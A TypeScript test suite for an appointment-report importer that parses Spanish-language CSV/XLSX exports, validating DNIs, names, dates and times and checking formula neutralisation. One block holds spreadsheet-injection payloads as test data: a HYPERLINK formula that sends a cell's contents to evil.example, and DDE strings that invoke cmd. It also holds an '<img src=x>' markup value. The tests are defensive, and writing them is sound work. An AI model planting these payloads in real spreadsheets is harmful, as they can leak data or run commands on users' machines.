import { expectLinear } from '../../support/linear';
import {
  canonicalDocumentType,
  DEFAULT_HEADER_ALIASES,
  normaliseHeader,
  parseCalendarDate,
  parseClockTime,
  parseReport,
  type ReportField,
} from '../../../src/domain/import/report';
import { parseCsv } from '../../../src/domain/import/csv';
import { limaDate, limaDateKey } from '../../../src/domain/lima-time';
import { neutraliseFormula } from '../../../src/domain/text';
import { HEADER, NOW, bookingRow, reportRows, thirtyBookings, toCsv } from './report-fixtures';

const aliases = DEFAULT_HEADER_ALIASES;

function withAliases(extra: Partial<Record<ReportField, string[]>>): Record<ReportField, string[]> {
  const out = { ...aliases };
  for (const [k, v] of Object.entries(extra)) out[k as ReportField] = [...aliases[k as ReportField], ...(v ?? [])];
  return out;
}

describe('parseReport: a 30-row platform export', () => {
  const bookings = thirtyBookings();
  const rows = parseCsv(toCsv(reportRows(bookings)));
  const result = parseReport(rows, aliases, { now: NOW });

  it('finds the header below the title rows and imports every booking', () => {
    expect(result.headerLine).toBe(4);
    expect(result.missingColumns).toEqual([]);
    expect(result.fileProblem).toBeNull();
    expect(result.rejected).toEqual([]);
    expect(result.appointments).toHaveLength(30);
  });

  it('maps each column: code as key, DNI with its leading zero, names joined, Lima start time', () => {
    const first = result.appointments[0];
    expect(first).toMatchObject({
      key: '000101',
      code: '000101',
      dni: '01234567',
      documentType: 'DNI',
      fullName: 'María José Ñahui Huamán',
      email: 'maria.nahui@gmail.com',
      phone: '+51 910000000',
      consultant: 'Ana Peña',
      service: 'Orientación para el emprendimiento',
      line: 5,
      platformStatus: 'Reservada',
      cancelledOnPlatform: false,
    });
    expect(first.start).toEqual(limaDate(2026, 3, 10, 9, 0));
    const last = result.appointments[29];
    expect(last.start).toEqual(limaDate(2026, 3, 12, 16, 40));
    expect(last.fullName).toBe('Soledad Ibáñez Carhuaz');
  });

  it('gives the row number a person sees in Excel', () => {
    expect(result.appointments.map((a) => a.line)).toEqual(Array.from({ length: 30 }, (_, i) => i + 5));
  });
});

describe('parseReport: bad rows are rejected with a Spanish reason, the rest imported', () => {
  const bookings = thirtyBookings().slice(0, 8);
  const bad = bookings.map(bookingRow);
  bad[1][2] = '1234'; // line 3
  bad[2][5] = ''; // line 4
  bad[3][7] = '31/02/2026'; // line 5
  bad[4][8] = '25:10'; // line 6
  bad[5][5] = 'rosa.condori@gmail'; // line 7
  bad[6][2] = '12A45678'; // line 8, and more problems on the same row
  bad[6][3] = '';
  bad[6][4] = '';
  bad[6][7] = '15-13-2026';
  const rows = [HEADER, bad[0], bad[1], bad[2], bad[3], bad[4], bad[5], bad[6], [], ['', '  ', ''], bad[7], [...bad[0]]];
  const result = parseReport(rows, aliases, { now: NOW });

  it('imports the good rows only', () => {
    expect(result.appointments.map((a) => a.line)).toEqual([2, 11]);
  });

  it('names each problem, with the row number and the offending value', () => {
    expect(result.rejected.map((r) => r.reason)).toEqual([
      'Fila 3: el DNI «1234» no tiene 8 dígitos',
      'Fila 4: falta el correo electrónico',
      'Fila 5: la fecha «31/02/2026» no existe',
      'Fila 6: la hora «25:10» no es válida',
      'Fila 7: el correo electrónico «rosa.condori@gmail» no es válido',
      'Fila 8: el DNI «12A45678» debe tener solo números (8 dígitos); falta el nombre; la fecha «15-13-2026» no existe',
      'Fila 12: la cita «000101» está repetida (ya figura en la fila 2)',
    ]);
  });

  it('keeps the raw cells of each rejected row so nothing is lost', () => {
    expect(result.rejected[0].raw).toEqual(bad[1]);
    expect(result.rejected[0].line).toBe(3);
  });

  it('skips blank lines silently: every other row is either imported or rejected', () => {
    expect(result.appointments.length + result.rejected.length).toBe(rows.length - 1 - 2);
  });
});

describe('parseReport: headers', () => {
  const b = thirtyBookings()[0];

  it('matches headers ignoring case, accents, spaces, punctuation and the way "número" is written', () => {
    expect(normaliseHeader('N° Documento')).toBe(normaliseHeader('NRO. DOCUMENTO'));
    expect(normaliseHeader('Nº documento')).toBe(normaliseHeader('Número de documento'));
    expect(normaliseHeader('  CORREO   ELECTRONICO ')).toBe(normaliseHeader('Correo electrónico'));
    expect(normaliseHeader('Fecha de cita')).toBe(normaliseHeader('FechaCita'));
    const rows = [
      ['NRO. DOCUMENTO', 'NOMBRES', 'APELLIDOS', 'CORREO ELECTRONICO', 'FECHA  DE  CITA', 'HORA', 'cod. cita'],
      ['01234567', 'María', 'Ñahui', 'm@gmail.com', '10/03/2026', '9:00', 'A-1'],
    ];
    const r = parseReport(rows, aliases, { now: NOW });
    expect(r.appointments[0]).toMatchObject({ dni: '01234567', fullName: 'María Ñahui', code: 'A-1' });
  });

  it('uses the aliases from the settings tab', () => {
    const rows = [
      ['Doc. ciudadano', 'Ciudadano', 'Mail del ciudadano', 'Día', 'Inicio'],
      ['01234567', 'María Ñahui', 'm@gmail.com', '10/03/2026', '09:00'],
    ];
    expect(parseReport(rows, aliases, { now: NOW }).headerLine).toBe(0);
    const custom = withAliases({ dni: ['Doc. ciudadano'], email: ['Mail del ciudadano'], date: ['Día'], time: ['Inicio'] });
    const r = parseReport(rows, custom, { now: NOW });
    expect(r.appointments[0]).toMatchObject({ dni: '01234567', fullName: 'María Ñahui', email: 'm@gmail.com' });
  });

  it('joins "Apellido paterno" and "Apellido materno" into the last names, in column order', () => {
    const rows = [
      ['DNI', 'Apellido paterno', 'Apellido materno', 'Nombres', 'Correo', 'Fecha', 'Hora'],
      ['01234567', 'Ñahui', 'Huamán', 'María José', 'm@gmail.com', '10/03/2026', '09:00'],
    ];
    expect(parseReport(rows, aliases, { now: NOW }).appointments[0].fullName).toBe('María José Ñahui Huamán');
  });

  it('one canonical name whichever the shape: «APELLIDOS, NOMBRES» reads as the split columns do', () => {
    const split = [
      ['DNI', 'Nombres', 'Apellidos', 'Correo', 'Fecha', 'Hora'],
      ['01234567', 'MARÍA JOSÉ', 'ÑAHUI HUAMÁN', 'm@gmail.com', '10/03/2026', '09:00'],
    ];
    const combined = [
      ['DNI', 'Apellidos y nombres', 'Correo', 'Fecha', 'Hora'],
      ['01234567', ' ÑAHUI  HUAMÁN ,MARÍA JOSÉ', 'm@gmail.com', '10/03/2026', '09:00'],
    ];
    const a = parseReport(split, aliases, { now: NOW }).appointments[0].fullName;
    const c = parseReport(combined, aliases, { now: NOW }).appointments[0].fullName;
    expect(a).toBe('MARÍA JOSÉ ÑAHUI HUAMÁN');
    expect(c).toBe(a);
  });

  it('names follow the same rule as the walk-in and the correction: a formula or markup goes to review', () => {
    const rows = [
      ['DNI', 'Nombres', 'Apellidos', 'Correo', 'Fecha', 'Hora'],
      ['01234567', '=1+1', '', 'm@gmail.com', '10/03/2026', '09:00'],
      ['45879632', '<img src=x>', 'Peña', 'j@gmail.com', '10/03/2026', '09:30'],
      ['70123456', 'Lucía', 'D’Onofrio', 'l@gmail.com', '10/03/2026', '10:00'],
    ];
    const r = parseReport(rows, aliases, { now: NOW });
    expect(r.appointments.map((x) => x.fullName)).toEqual(['Lucía D’Onofrio']);
    expect(r.rejected.map((x) => x.reason)).toEqual([
      'Fila 2: el nombre «=1+1» no es válido (debe empezar con una letra y no puede tener números ni signos como «=», «+», «@», «<» o «;»)',
      'Fila 3: el nombre «<img src=x> Peña» no es válido (debe empezar con una letra y no puede tener números ni signos como «=», «+», «@», «<» o «;»)',
    ]);
  });

  it('refuses a report missing a required column, saying which', () => {
    const rows = [
      ['DNI', 'Nombres', 'Apellidos', 'Fecha', 'Hora'],
      [b.dni, b.names, b.lastNames, b.date, b.time],
    ];
    const r = parseReport(rows, aliases, { now: NOW });
    expect(r.missingColumns).toEqual(['email']);
    expect(r.appointments).toEqual([]);
    expect(r.fileProblem).toBe(
      'Al reporte le falta la columna «Correo electrónico». Revise los encabezados o agregue el nombre usado por la plataforma en la pestaña de configuración.',
    );
  });

  it('says when no header row is found at all', () => {
    const r = parseReport([['hola'], ['1', '2', '3']], aliases, { now: NOW });
    expect(r.headerLine).toBe(0);
    expect(r.missingColumns).toEqual(['dni', 'fullName', 'email', 'date']);
    expect(r.fileProblem).toMatch(/No se encontró la fila de encabezados/);
  });

  it('asks for the time column when the dates carry no time', () => {
    const rows = [
      ['DNI', 'Nombre completo', 'Correo', 'Fecha'],
      ['01234567', 'María Ñahui', 'm@gmail.com', '10/03/2026'],
    ];
    expect(parseReport(rows, aliases, { now: NOW }).missingColumns).toEqual(['time']);
  });

  it('accepts one "Fecha y hora" column, or a date column that carries the time', () => {
    const one = parseReport(
      [['DNI', 'Nombre completo', 'Correo', 'Fecha y hora'], ['01234567', 'María Ñahui', 'm@gmail.com', '10/03/2026 15:30']],
      aliases,
      { now: NOW },
    );
    expect(one.appointments[0].start).toEqual(limaDate(2026, 3, 10, 15, 30));
    const inDate = parseReport(
      [['DNI', 'Nombre completo', 'Correo', 'Fecha'], ['01234567', 'María Ñahui', 'm@gmail.com', '10/03/2026 3:30 p. m.'], ['45879632', 'José Peña', 'j@gmail.com', '10/03/2026']],
      aliases,
      { now: NOW },
    );
    expect(inDate.appointments[0].start).toEqual(limaDate(2026, 3, 10, 15, 30));
    expect(inDate.rejected[0].reason).toBe('Fila 3: falta la hora de la cita');
  });
});

describe('parseReport: keys and duplicates', () => {
  it('without a code column the key is dni|date|HH:mm in Lima', () => {
    const rows = [
      ['DNI', 'Nombre completo', 'Correo', 'Fecha', 'Hora'],
      ['01234567', 'María Ñahui', 'm@gmail.com', '10/03/2026', '3:30 p. m.'],
      ['01234567', 'María Ñahui', 'm@gmail.com', '10/03/2026', '15:30'],
      ['01234567', 'María Ñahui', 'm@gmail.com', '11/03/2026', '15:30'],
    ];
    const r = parseReport(rows, aliases, { now: NOW });
    expect(r.appointments.map((a) => a.key)).toEqual(['01234567|2026-03-10|15:30', '01234567|2026-03-11|15:30']);
    expect(r.appointments[0].code).toBeNull();
    expect(r.rejected.map((x) => x.reason)).toEqual([
      'Fila 3: la cita del documento 01234567 el 10/03/2026 a las 15:30 está repetida (ya figura en la fila 2)',
    ]);
  });

  it('normalises codes (spaces, case) but keeps their leading zeros', () => {
    const rows = [
      ['Código', 'DNI', 'Nombre completo', 'Correo', 'Fecha', 'Hora'],
      [' av-000123 ', '01234567', 'María Ñahui', 'm@gmail.com', '10/03/2026', '09:00'],
      ['AV-000123', '45879632', 'José Peña', 'j@gmail.com', '10/03/2026', '10:00'],
    ];
    const r = parseReport(rows, aliases, { now: NOW });
    expect(r.appointments[0].key).toBe('AV-000123');
    expect(r.rejected[0].reason).toBe('Fila 3: la cita «AV-000123» está repetida (ya figura en la fila 2)');
  });

  it('treats all-digit codes that differ only in leading zeros as the same booking', () => {
    const rows = [
      ['Código', 'DNI', 'Nombre completo', 'Correo', 'Fecha', 'Hora'],
      ['000123', '01234567', 'María Ñahui', 'm@gmail.com', '10/03/2026', '09:00'],
      ['123', '45879632', 'José Peña', 'j@gmail.com', '10/03/2026', '10:00'],
    ];
    const r = parseReport(rows, aliases, { now: NOW });
    expect(r.appointments.map((a) => a.key)).toEqual(['000123']);
    expect(r.rejected[0].reason).toBe('Fila 3: la cita «123» está repetida (ya figura en la fila 2)');
  });
});

describe('parseReport: documents, phones, statuses', () => {
  const header = ['Tipo de documento', 'N° Documento', 'Nombre completo', 'Correo', 'Celular', 'Fecha', 'Hora', 'Estado'];
  const row = (type: string, doc: string, phone = '987654321', status = 'Reservada') => [type, doc, 'Ana Peña', 'a@gmail.com', phone, '10/03/2026', '09:00', status];

  it('validates a DNI as 8 digits and other documents as 5–15 letters/digits', () => {
    const r = parseReport(
      [header, row('D.N.I.', '01234567'), row('Carné de extranjería', '001234567'), row('PASAPORTE', 'pe-123 456'), row('CE', '12'), row('', '1234567')],
      aliases,
      { now: NOW },
    );
    expect(r.appointments.map((a) => [a.documentType, a.dni])).toEqual([
      ['DNI', '01234567'],
      ['CE', '001234567'],
      ['Pasaporte', 'PE123456'],
    ]);
    expect(r.rejected.map((x) => x.reason)).toEqual([
      'Fila 5: el número de CE «12» no es válido',
      'Fila 6: el DNI «1234567» tiene 7 dígitos (si el reporte se abrió y guardó en Excel, pudo perder el 0 inicial: revíselo en el reporte original)',
    ]);
  });

  it('normalises Peruvian mobiles and keeps any other number as typed, with a warning', () => {
    const r = parseReport([header, row('DNI', '01234567', '51 987 654 321'), row('DNI', '45879632', '(01) 456-7890'), row('DNI', '70123456', '')], aliases, { now: NOW });
    expect(r.appointments.map((a) => a.phone)).toEqual(['+51 987654321', '(01) 456-7890', null]);
    expect(r.warnings).toEqual([
      { line: 3, message: 'Fila 3: el teléfono «(01) 456-7890» no es un celular peruano (+51 9XXXXXXXX); se guardó tal como está' },
    ]);
  });

  it('flags bookings the report marks as annulled', () => {
    const r = parseReport([header, row('DNI', '01234567', '987654321', 'Anulada'), row('DNI', '45879632', '987654321', 'CANCELADA POR EL USUARIO'), row('DNI', '70123456')], aliases, { now: NOW });
    expect(r.appointments.map((a) => a.cancelledOnPlatform)).toEqual([true, true, false]);
  });

  it('canonicalDocumentType defaults to DNI; a type the service does not attend is null', () => {
    expect(canonicalDocumentType('')).toBe('DNI');
    expect(canonicalDocumentType('carnet de extranjeria')).toBe('CE');
    expect(canonicalDocumentType('Cédula de Venezuela')).toBeNull();
  });

  it('rejects a row whose document type the service does not attend, or whose type is markup', () => {
    const r = parseReport([header, row('Cédula de Venezuela', 'V12345678'), row('<b>x</b>', '12345678'), row('DNI', '70123456')], aliases, { now: NOW });
    expect(r.appointments.map((a) => a.dni)).toEqual(['70123456']);
    expect(r.rejected.map((x) => x.reason)).toEqual([
      'Fila 2: el tipo de documento «Cédula de Venezuela» no es uno de los que atiende el servicio (DNI, carné de extranjería, pasaporte, PTP o CPP)',
      'Fila 3: el tipo de documento «<b>x</b>» no es uno de los que atiende el servicio (DNI, carné de extranjería, pasaporte, PTP o CPP)',
    ]);
  });
});

describe('parseReport: values from an XLSX sheet (numbers and dates)', () => {
  it('restores the leading zero of a numeric DNI and reads Date and serial cells as Lima time', () => {
    const time = limaDate(1899, 12, 30, 15, 30); // how a time-only cell comes out of parseXlsx
    const rows: unknown[][] = [
      ['Código de cita', 'DNI', 'Nombres', 'Apellidos', 'Correo', 'Celular', 'Fecha', 'Hora'],
      [123, 1234567, 'María', 'Ñahui', 'm@gmail.com', 987654321, limaDate(2026, 3, 10), time],
      ['000124', '01234567', 'José', 'Peña', 'j@gmail.com', null, 46091, 0.375],
    ];
    const r = parseReport(rows, aliases, { now: NOW });
    expect(r.rejected).toEqual([]);
    expect(r.appointments[0]).toMatchObject({ key: '123', dni: '01234567', phone: '+51 987654321' });
    expect(r.appointments[0].start).toEqual(limaDate(2026, 3, 10, 15, 30));
    expect(r.appointments[1].start).toEqual(limaDate(2026, 3, 10, 9, 0));
  });
});

describe('parseReport: hostile values are kept as typed and neutralised at write time', () => {
  const hostile = [
    '=HYPERLINK("http://evil.example/?x="&A1;"Ver cita")',
    '+51 999 999 999',
    '@SUM(1+1)*cmd|\' /C calc\'!A0',
    '-2+3+cmd|\' /C calc\'!A0',
  ];
  const rows = [
    ['DNI', 'Nombre completo', 'Correo', 'Fecha', 'Hora', 'Servicio', 'Consultor'],
    ...hostile.map((h, i) => [String(45879630 + i), 'Ana Peña', `p${i}@gmail.com`, '10/03/2026', `${9 + i}:00`, h, h]),
    ['01234567', 'Ana Peña', 'tab@gmail.com', '10/03/2026', '15:00', '\r=1+1', '\n@x'],
    // The same values as names: the name rule (validation.ts) sends them to review, nothing lost.
    ...hostile.map((h, i) => [String(70123450 + i), h, `n${i}@gmail.com`, '11/03/2026', `${9 + i}:00`, '', '']),
    ['70123459', '\t=1+1', 'n9@gmail.com', '11/03/2026', '15:00', '', ''],
  ];
  const r = parseReport(rows, aliases, { now: NOW });

  it('imports the rows, keeping each service and consultant exactly as typed', () => {
    expect(r.appointments.slice(0, 4).map((a) => a.service)).toEqual(hostile);
    expect(r.appointments.slice(0, 4).map((a) => a.consultant)).toEqual(hostile);
    // Leading tab/CR/LF are whitespace: trimmed by cleanText, which leaves the '=' visible.
    expect(r.appointments[4]).toMatchObject({ service: '=1+1', consultant: '@x' });
  });

  it('a name that is a formula is not imported: its row goes to review with every cell', () => {
    expect(r.appointments).toHaveLength(5);
    expect(r.rejected.map((x) => x.raw[1])).toEqual([...hostile, '\t=1+1']);
    for (const x of r.rejected) expect(x.reason).toMatch(/^Fila \d+: el nombre «.*» no es válido \(debe empezar con una letra/s);
  });

  it('every text value becomes plain text for Sheets after neutraliseFormula', () => {
    for (const a of r.appointments) {
      for (const v of [a.service ?? '', a.consultant ?? '']) {
        const written = neutraliseFormula(v);
        expect(written.startsWith("'")).toBe(true);
        expect(written.slice(1)).toBe(v);
      }
    }
  });
});

describe('parseCalendarDate', () => {
  const ok = (v: unknown) => {
    const r = parseCalendarDate(v, NOW);
    if (!r.ok) throw new Error(r.problem);
    return [r.date.year, r.date.month, r.date.day, r.time ? `${r.time.hour}:${r.time.minute}` : null];
  };

  it.each([
    ['10/03/2026', [2026, 3, 10, null]],
    ['1/3/2026', [2026, 3, 1, null]],
    ['10-03-2026', [2026, 3, 10, null]],
    ['10.03.2026', [2026, 3, 10, null]],
    ['10/03/26', [2026, 3, 10, null]],
    ['2026-03-10', [2026, 3, 10, null]],
    ['2026/03/10', [2026, 3, 10, null]],
    ['10-mar-2026', [2026, 3, 10, null]],
    ['10 de marzo de 2026', [2026, 3, 10, null]],
    ['martes, 10 de marzo de 2026', [2026, 3, 10, null]],
    ['10 set 2026', [2026, 9, 10, null]],
    ['10/03/2026 15:30', [2026, 3, 10, '15:30']],
    ['10/03/2026 03:30 p.\u00a0m.', [2026, 3, 10, '15:30']],
    ['2026-03-10T15:30:00', [2026, 3, 10, '15:30']],
    ['2026-03-10T20:30:00Z', [2026, 3, 10, '15:30']],
    ['2026-03-10T15:30:00-05:00', [2026, 3, 10, '15:30']],
    ['2026-03-11T02:00:00Z', [2026, 3, 10, '21:0']],
    ['10/03', [2026, 3, 10, null]],
    ['05/01', [2027, 1, 5, null]], // more than two months before 9 March: next year
  ])('%j', (text, expected) => expect(ok(text)).toEqual(expected));

  it('reads Date cells and Excel serials as Lima dates', () => {
    expect(ok(limaDate(2026, 3, 10))).toEqual([2026, 3, 10, null]);
    expect(ok(limaDate(2026, 3, 10, 9, 40))).toEqual([2026, 3, 10, '9:40']);
    expect(ok(46091)).toEqual([2026, 3, 10, null]);
  });

  it.each([
    ['31/02/2026', 'la fecha «31/02/2026» no existe'],
    ['29/02/2026', 'la fecha «29/02/2026» no existe'],
    ['00/03/2026', 'la fecha «00/03/2026» no existe'],
    ['10/13/2026', 'la fecha «10/13/2026» no existe'],
    ['mañana', 'la fecha «mañana» no tiene un formato reconocido (se espera dd/mm/aaaa)'],
    ['10/03/1926', 'la fecha «10/03/1926» tiene un año fuera de rango'],
    ['', 'falta la fecha de la cita'],
  ])('rejects %j', (text, problem) => {
    expect(parseCalendarDate(text, NOW)).toEqual({ ok: false, problem });
  });

  it('accepts 29 February in a leap year', () => {
    expect(ok('29/02/2028')).toEqual([2028, 2, 29, null]);
  });
});

describe('parseClockTime', () => {
  const hm = (v: unknown) => {
    const r = parseClockTime(v);
    return r.ok ? `${r.time.hour}:${String(r.time.minute).padStart(2, '0')}` : r.problem;
  };

  it.each([
    ['15:30', '15:30'],
    ['15:30:00', '15:30'],
    ['9:05', '9:05'],
    ['09:05', '9:05'],
    ['15h30', '15:30'],
    ['15.30', '15:30'],
    ['15:30 hrs', '15:30'],
    ['3:30 p. m.', '15:30'],
    ['3:30 p.m.', '15:30'],
    ['03:30 PM', '15:30'],
    ['3:30 pm', '15:30'],
    ['3:30\u00a0p.\u00a0m.', '15:30'],
    ['3:30 p.\u202fm.', '15:30'],
    ['3:30 a. m.', '3:30'],
    ['12:00 p. m.', '12:00'],
    ['12:15 a. m.', '0:15'],
    ['03:30:00 p. m.', '15:30'],
    ['3 pm', '15:00'],
    ['09:00 - 09:35', '9:00'],
    ['3:30 p. m. – 4:05 p. m.', '15:30'],
    ['0:00', '0:00'],
  ])('%j → %s', (text, expected) => expect(hm(text)).toBe(expected));

  it.each([['25:10'], ['15:60'], ['13:00 p. m.'], ['0:30 a. m.'], ['15'], ['tarde'], ['3:30 xm']])('rejects %j', (text) => {
    expect(hm(text)).toBe(`la hora «${text}» no es válida`);
  });

  it('reads Date cells and day fractions', () => {
    expect(hm(limaDate(1899, 12, 30, 15, 30))).toBe('15:30');
    expect(hm(0.6458333333333334)).toBe('15:30');
    expect(hm(46091.375)).toBe('9:00');
  });
});

describe('parseReport performance', () => {
  it('maps 5,000 rows, in time linear in their number', () => {
    const base = thirtyBookings();
    const table = (n: number) => {
      const rows: string[][] = [HEADER];
      for (let i = 0; i < n; i++) {
        const b = bookingRow(base[i % 30]);
        b[0] = String(i).padStart(6, '0');
        b[7] = `${String((i % 28) + 1).padStart(2, '0')}/04/2026`;
        rows.push(b);
      }
      return rows;
    };
    const tables = new Map([250, 5000].map((n) => [n, table(n)]));
    const r = parseReport(tables.get(5000)!, aliases, { now: NOW });
    expectLinear((n) => parseReport(tables.get(n)!, aliases, { now: NOW }), 250, 5000);
    expect(r.appointments).toHaveLength(5000);
    expect(limaDateKey(r.appointments[4999].start)).toBe('2026-04-16');
  });
});
